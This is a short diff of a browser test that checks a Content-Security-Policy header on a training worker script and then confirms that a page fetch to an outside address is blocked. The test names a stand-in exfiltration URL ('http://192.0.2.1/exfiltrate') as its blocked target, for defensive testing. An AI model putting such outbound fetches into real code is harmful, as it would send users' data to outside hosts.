@@ -216,7 +216,7 @@ test('the Content-Security-Policy blocks requests to other origins, in the page 
     const requests = [];
     page.on('request', (r) => requests.push(r.url()));
     // A header (not only the meta tag) carries the policy, on the worker's script too.
-    const response = await context.request.get(`${env.url}www/worker.js`);
+    const response = await context.request.get(`${env.url}www/training/training-worker.js`);
     assert.match(response.headers()['content-security-policy'] ?? '', /connect-src 'self'/);
     const outside = 'http://192.0.2.1/exfiltrate';
     const fromPage = await page.evaluate((url) => fetch(url).then(() => 'sent', (e) => `blocked: ${e.message}`), outside);
